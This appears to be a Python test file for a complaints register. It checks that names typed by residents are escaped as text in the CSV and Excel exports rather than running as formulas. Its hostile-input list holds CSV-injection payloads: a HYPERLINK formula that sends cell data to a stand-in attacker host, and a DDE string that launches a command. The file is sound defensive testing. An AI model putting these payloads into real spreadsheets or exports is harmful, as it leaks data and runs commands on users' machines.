"""What a resident typed cannot become a formula in the register's CSV or Excel export."""

import csv
import io

from openpyxl import load_workbook

from service.domain.cells import neutralised
from tests.conftest import london

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&B2,"Click")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3",
           "\tTAB", "\rCR"]


def test_cells_that_a_spreadsheet_would_run_are_shown_as_text_and_numbers_stay_numbers():
    assert [neutralised(text) for text in HOSTILE] == ["'" + text for text in HOSTILE]
    assert [neutralised(text) for text in ["-3", "+4.5", "150.00", "Rita = Resident", ""]] == \
           ["-3", "+4.5", "150.00", "Rita = Resident", ""]


def test_the_register_exports_carry_hostile_names_as_text(api, clock):
    clock(london(2026, 12, 21))
    olivia = api("olivia")
    for name in HOSTILE:
        response = olivia.post("/complaints", {"complainant": {"name": name}, "channel": "email",
                                               "received_at": "2026-12-18", "description": "d"})
        assert response.status_code == 201, response.get_json()
    headers = {"Authorization": f"Bearer {olivia.token}"}
    text = olivia.client.get("/api/v1/reports/register.csv?sort=oldest", headers=headers).get_data(as_text=True)
    names = [row["complainant"] for row in csv.DictReader(io.StringIO(text, newline=""))]
    stored = [name.strip() for name in HOSTILE]  # the API keeps names without surrounding blanks
    assert sorted(names) == sorted(neutralised(name) for name in stored)
    assert "'" + HOSTILE[0] in names and "'-2+3" in names

    response = olivia.client.get("/api/v1/reports/register.xlsx?sort=oldest", headers=headers)
    sheet = load_workbook(io.BytesIO(response.get_data())).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert cells and all(cell.data_type == "s" for cell in cells)  # text, never a formula ("f")
    column = [cell.value for cell in next(sheet.iter_cols(min_col=2, max_col=2))][1:]
    assert sorted(column) == sorted(stored)  # shown exactly as typed
